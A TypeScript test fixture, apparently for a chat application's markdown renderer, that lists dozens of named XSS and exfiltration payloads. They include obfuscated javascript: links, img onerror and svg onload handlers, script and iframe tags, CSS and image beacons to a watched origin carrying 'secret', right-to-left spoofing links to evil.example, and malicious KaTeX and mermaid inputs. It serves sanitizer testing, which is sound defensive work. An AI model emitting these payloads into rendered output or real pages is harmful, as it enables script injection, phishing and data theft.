const BIDI = '\u202e'
const ZERO_WIDTH = '\u200b'

/**
 * Replies that try to run something, or to send something to `origin`, which a test watches. Each is named by what it
 * tries.
 */
export function attacksOn(origin: string): Record<string, string> {
  const host = origin.replace(/^https?:/, '')
  return {
    ...links(origin, host),
    ...images(origin, host),
    ...elements(origin, host),
    ...formulas(origin),
    ...diagrams(origin, host),
  }
}

function links(origin: string, host: string): Record<string, string> {
  return {
    'javascript link': '[x](javascript:alert(1))',
    'javascript link in capitals': '[x](JaVaScRiPt:alert(1))',
    'javascript link with entities': '[x](&#106;avascript:alert&#40;1&#41;)',
    'javascript link with hexadecimal entities': '[x](&#x6A;&#x61;vascript&#58;alert(1))',
    'javascript link with a named entity': '[x](javascript&colon;alert(1))',
    'javascript link with a line break': '[x](<java\nscript:alert(1)>)',
    'javascript link with a tab': '[x](<java\tscript:alert(1)>)',
    'javascript link with an encoded tab': '[x](java&#9;script:alert(1))',
    'javascript link behind a control character': '[x](\u0001javascript:alert(1))',
    'javascript link with a zero-width space': `[x](java${ZERO_WIDTH}script:alert(1))`,
    'javascript link as an angle autolink': '<javascript:alert(1)>',
    'javascript link by reference': '[x][evil]\n\n[evil]: javascript:alert(1)',
    'javascript link by shortcut': '[shortcut]\n\n[shortcut]: <javascript:alert(1)>',
    'javascript link in a footnote': 'a[^1]\n\n[^1]: [x](javascript:alert(1))',
    'footnote label with markup': 'a[^"><img/src=x>]\n\n[^"><img/src=x>]: nota',
    'data link': '[x](data:text/html,<script>alert(1)</script>)',
    'data link in base64': '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
    'vbscript link': '[x](vbscript:msgbox(1))',
    'file link': '[x](file:///etc/passwd)',
    'blob link': `[x](blob:${origin}/1)`,
    'link to this page': '[x](/api/chat/conversations)',
    'link without a protocol': `[x](${host}/p)`,
    'link with backslashes': `[x](https:\\\\${host.slice(2)}/p)`,
    'link with a name in front of the host': '[x](https://example.com@evil.example/p)',
    'link with a right-to-left override': `[x](https://example.com/${BIDI}gpj.exe)`,
    'text with a right-to-left override': `${BIDI}[moc.knab](https://evil.example) a`,
    'text that names another host': '[https://bank.example](https://evil.example/login)',
    'title with quotes': '[x](https://example.com "\\" onmouseover=alert(1) x=\\"")',
    'autolink with quotes': 'https://example.com/"onmouseover="alert(1)',
    'mail link with a script': '[x](mailto:javascript:alert(1))',
    'label of every object': '[constructor] [a][constructor] [toString][] ![hasOwnProperty]',
    'label of the prototype': '[__proto__] [a][__proto__] ![a][__proto__] [1][valueOf]',
    'label of the prototype, defined':
      '[a][__proto__] [b][constructor]\n\n[__proto__]: https://example.com/a',
    'nested brackets': '[[x](javascript:alert(1))](javascript:alert(2))',
  }
}

function images(origin: string, host: string): Record<string, string> {
  return {
    image: `![x](${origin}/image?q=secret)`,
    'image with a title': `![x](${origin}/titled "a")`,
    'image by reference': `![x][pic]\n\n[pic]: ${origin}/reference`,
    'image by collapsed reference': `![collapsed][]\n\n[collapsed]: ${origin}/collapsed`,
    'image by shortcut': `![short]\n\n[short]: <${origin}/shortcut>`,
    'image whose definition comes first': `[before]: ${origin}/before\n\n![before]`,
    'image in a link': `[![x](${origin}/inlink)](${origin}/page)`,
    'image in a table': `| a |\n|---|\n| ![x](${origin}/table) |`,
    'image in a list': `- ![x](${origin}/list)`,
    'image in a heading': `# ![x](${origin}/heading)`,
    'image in a quotation': `> ![x](${origin}/quotation)`,
    'image in a footnote': `a[^n]\n\n[^n]: ![x](${origin}/footnote)`,
    'image in an alternative text': `![![x](${origin}/inner)](${origin}/outer)`,
    'image without a protocol': `![x](${host}/relative)`,
    'image in angle brackets': `![x](<${origin}/angle>)`,
    'image from data': '![x](data:image/svg+xml,<svg/onload=alert(1)>)',
    'image with entities': `![x](${origin.replace('http', '&#104;ttp')}/entities)`,
    'image with an event': '![x" onerror="alert(1)](https://example.com/x.png)',
    'image cut off': `![x](${origin}/cutoff`,
    'image tag': `<img src="${origin}/tag">`,
    'image tag with an event': '<img src=x onerror=alert(1)>',
    'image tag cut off': `<img src="${origin}/tagcutoff"`,
    'image tag with a set of sources': `<img srcset="${origin}/srcset 1x">`,
    'picture tag': `<picture><source srcset="${origin}/picture"><img></picture>`,
  }
}

function elements(origin: string, host: string): Record<string, string> {
  return {
    script: '<script>alert(1)</script>',
    'script from elsewhere': `<script src="${origin}/script.js"></script>`,
    'script in capitals': '<ScRiPt>alert(1)</sCrIpT>',
    'nested script': '<scr<script>ipt>alert(1)</scr</script>ipt>',
    'script in a comment': '<!--><script>alert(1)</script>-->',
    'open comment': '<!-- <img src=x onerror=alert(1)>',
    'processing instruction': '<?xml-stylesheet href="javascript:alert(1)"?>',
    cdata: '<![CDATA[<script>alert(1)</script>]]>',
    svg: '<svg onload=alert(1)><image href="x"/></svg>',
    'svg that uses': `<svg><use href="${origin}/use.svg#x"/></svg>`,
    'svg with an animation': '<svg><a><animate attributeName=href values=javascript:alert(1) /></a></svg>',
    math: '<math><mtext><script>alert(1)</script></mtext></math>',
    iframe: `<iframe src="${origin}/frame"></iframe>`,
    'iframe with its document': '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    object: `<object data="${origin}/object"></object>`,
    embed: `<embed src="${origin}/embed">`,
    'style import': `<style>@import url(${origin}/style.css)</style>`,
    'style attribute': `<p style="background:url(${origin}/style)">x</p>`,
    stylesheet: `<link rel="stylesheet" href="${origin}/sheet.css">`,
    prefetch: `<link rel="dns-prefetch" href="${host}">`,
    'meta refresh': `<meta http-equiv="refresh" content="0;url=${origin}/refresh">`,
    base: `<base href="${origin}/">`,
    form: `<form action="${origin}/form"><input autofocus onfocus=alert(1)><button>x</button></form>`,
    details: '<details open ontoggle=alert(1)>x</details>',
    'details around a script':
      '<details>\n<summary>a<script>alert(1)</script></summary>\n\n<img src=x onerror=alert(1)>\n\n</details>',
    'summary with an event': '<details>\n<summary onclick=alert(1)>a</summary>\n\nb\n\n</details>',
    'elements with events':
      'a<sub onmouseover=alert(1)>b</sub> <kbd style="x">c</kbd> <sup\nonclick=alert(1)>d</sup>',
    'elements around an image': `<sub><img src="${origin}/sub"></sub> <kbd>![x](${origin}/kbd)</kbd>`,
    video: `<video poster="${origin}/poster" src="${origin}/video" autoplay></video>`,
    audio: `<audio src="${origin}/audio" autoplay></audio>`,
    'tag in a table': '| a |\n|---|\n| <img src=x onerror=alert(1)> |',
    'tag in a code language': '```"><img/src=x/onerror=alert(1)>\nx\n```',
    'tag in code': '`<img src=x onerror=alert(1)>`',
  }
}

function formulas(origin: string): Record<string, string> {
  return {
    'formula with a link': '$\\href{javascript:alert(1)}{x}$',
    'formula with an address': `$$\n\\url{${origin}/url}\n$$`,
    'formula with an image': `$$\n\\includegraphics{${origin}/graphics.png}\n$$`,
    'formula with an id': '$\\htmlId{x}{y}$',
    'formula with a style': `$\\htmlStyle{background:url(${origin}/htmlstyle)}{x}$`,
    'formula with a class': '\\(\\htmlClass{overlay}{x}\\)',
    'formula with data': '\\(\\htmlData{onclick=alert(1)}{x}\\)',
    'formula that expands for ever': '$$\n\\def\\a{\\a\\a}\\a\n$$',
    'formula as large as a wall': '$$\n\\rule{9999em}{9999em}\n$$',
    'formula with markup': '$<img src=x onerror=alert(1)>$',
  }
}

function diagrams(origin: string, host: string): Record<string, string> {
  const diagram = (...lines: string[]) => `\`\`\`mermaid\n${lines.join('\n')}\n\`\`\``
  return {
    'diagram with a click': diagram('graph TD', 'A-->B', 'click A "javascript:alert(1)"'),
    'diagram with a call': diagram('graph TD', 'A-->B', 'click A call alert(1)'),
    'diagram with a link': diagram('graph TD', 'A-->B', `click A href "${origin}/click"`),
    'diagram with an image tag': diagram('graph TD', 'A["<img src=x onerror=alert(1)>"]-->B'),
    'diagram with an image': diagram('flowchart TD', `A@{ img: "${origin}/shape.png", label: "x" }`),
    'diagram with an image without a protocol': diagram('flowchart TD', `A@{ img: "${host}/shape.png" }`),
    'diagram with its own style': diagram(
      `%%{init: {"themeCSS": "@import url(${origin}/theme.css); * { background: url(${origin}/bg) }"}}%%`,
      'graph TD',
      'A-->B',
    ),
    'diagram with settings': diagram('---', 'config:', '  securityLevel: loose', '---', 'graph TD', 'A-->B'),
    'diagram with a class that loads': diagram(
      'graph TD',
      'A-->B',
      `classDef x fill:url(${host}/fill)`,
      'class A x',
    ),
    'diagram with an escaped style': diagram('graph TD', 'A-->B', `style A fill:u\\72l(${host}/escaped)`),
    'diagram with an image by a quoted key': diagram(
      'flowchart TD',
      `A@{ "img": "${host}/quoted.png", label: "x" }`,
    ),
    'diagram with an image by an escaped key': diagram(
      'flowchart TD',
      `A@{ "\\u0069mg": "${host.replaceAll('/', '\\/')}/escaped.png", label: "x" }`,
    ),
    'diagram with an escaped style behind a semicolon': diagram(
      `graph TD; A-->B; style A fill:u\\72l(${host}/behind)`,
    ),
    'diagram with a link behind a semicolon': diagram(`graph TD; A-->B; click A href "${origin}/click"`),
    'diagram with settings twice': diagram(
      ...['---', 'title: x', '---', '---', 'config:', '  securityLevel: loose', '---'],
      ...['graph TD', 'A-->B'],
    ),
    'diagram with settings behind a directive': diagram(
      ...['%%{init: {}}%%---', 'config:', '  securityLevel: loose', '---', 'graph TD', 'A-->B'],
    ),
    'diagram with a foreign object': diagram('graph TD', 'A["<foreignObject><script>alert(1)</script>"]-->B'),
    'sequence with a link': diagram('sequenceDiagram', `link A: x @ ${origin}/sequence`, 'A->>B: x'),
    'diagram with a quoted entity': diagram('graph TD', 'A["#lt;img src=x onerror=alert(1)#gt;"]-->B'),
  }
}
